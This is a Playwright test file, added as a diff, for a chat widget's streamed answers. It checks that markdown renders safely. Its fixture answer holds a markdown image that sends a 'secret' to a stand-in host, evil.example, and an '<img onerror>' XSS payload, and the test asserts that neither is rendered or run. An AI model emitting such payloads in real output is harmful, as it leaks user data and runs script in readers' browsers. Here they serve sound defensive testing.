@@ -1,0 +1,54 @@
+"""The demo page's widget in a real browser (headless Chromium): live edits, final, safe markdown."""
+
+import asyncio
+import shutil
+
+import pytest
+
+from agent.providers.scripted import Reply, ScriptedProvider
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+playwright_api = pytest.importorskip("playwright.async_api", reason="playwright is not installed")
+pytestmark = pytest.mark.skipif(
+    CHROMIUM is None, reason="no system Chromium (apt-get install chromium); .ci/run installs it"
+)
+ARGS = [
+    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+    "--disable-background-networking", "--disable-component-update", "--disable-sync",
+]
+ANSWER = (
+    "**Bold** news: see [the docs](https://example.com/docs).\n\n"
+    "![tracker](https://evil.example/steal?q=secret) <img src=x onerror=alert(1)>"
+)
+
+
+async def test_widget_shows_the_placeholder_live_then_the_final_answer_safely(running) -> None:
+    hold = asyncio.Event()
+    provider = ScriptedProvider([Reply(ANSWER, chunks=8, delay_s=0.05, wait=hold)])
+    app = await running(provider)
+    async with playwright_api.async_playwright() as playwright:
+        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+        try:
+            page = await browser.new_page()
+            await page.goto(app.url + "/")
+            await page.wait_for_selector(".cgw-state:has-text('connected')")
+            await page.fill(".cgw-input", "tell me the news")
+            await page.press(".cgw-input", "Enter")
+            await page.wait_for_selector(".cgw-msg.cgw-bot.cgw-pending")  # the placeholder
+            assert "Thinking" in await page.inner_text(".cgw-msg.cgw-bot")
+            hold.set()
+            await page.wait_for_function(  # edited live: part of the answer while still pending
+                "() => { const m = document.querySelector('.cgw-msg.cgw-bot.cgw-pending');"
+                " return m && m.textContent.includes('Bold') && !m.textContent.includes('onerror'); }"
+            )
+            await page.wait_for_selector(".cgw-msg.cgw-bot:not(.cgw-pending)", timeout=10_000)
+            bot = page.locator(".cgw-msg.cgw-bot")
+            assert await bot.count() == 1
+            assert await bot.locator("strong").inner_text() == "Bold"
+            link = bot.locator("a")
+            assert await link.get_attribute("href") == "https://example.com/docs"
+            assert "noopener" in (await link.get_attribute("rel") or "")
+            assert await page.locator("img").count() == 0  # neither markdown nor raw HTML images
+            assert "onerror" in await bot.inner_text()  # shown as text, never run
+        finally:
+            await browser.close()
